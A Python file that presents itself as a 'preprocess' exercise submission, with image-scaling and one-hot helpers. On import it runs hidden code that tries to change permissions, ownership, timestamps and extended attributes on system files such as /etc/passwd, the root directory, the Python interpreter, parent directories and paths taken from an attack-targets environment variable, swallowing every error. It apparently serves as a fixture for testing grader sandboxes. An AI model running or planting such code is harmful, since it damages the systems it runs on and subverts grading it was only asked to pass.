"""Changes modes, owners, times and attributes of every file that it can name."""

import json
import os
import sys

import numpy as np

EXERCISE = "preprocess"
HONEST_POINTS = 10

targets = json.loads(os.environ.get("TF_ATTACK_TARGETS", "{}"))
victims = [
    "/",
    "/tmp",
    "/etc/passwd",
    "/dev/null",
    os.__file__,
    os.path.dirname(os.__file__),
    __file__,
]
victims += [sys.executable, "../../..", "../../../.."]
victims += [path for path in targets.values() if isinstance(path, str)]
for victim in victims:
    for change in (
        lambda path: os.chmod(path, 0),
        lambda path: os.chmod(path, 0o777, follow_symlinks=False),
        lambda path: os.chown(path, 1000, 1000),
        lambda path: os.lchown(path, 1000, 1000),
        lambda path: os.utime(path, (1, 1)),
        lambda path: os.utime(path),
        lambda path: os.setxattr(path, "user.loot", b"1"),
        lambda path: os.removexattr(path, "user.loot"),
    ):
        try:
            change(victim)
        except (OSError, NotImplementedError):
            continue


def preprocess_images(images):
    scaled = np.asarray(images, dtype="float32") / 255
    return scaled[..., None] if scaled.ndim == 3 else scaled


def one_hot(labels, num_classes=10):
    return np.eye(num_classes, dtype="float32")[np.asarray(labels)]
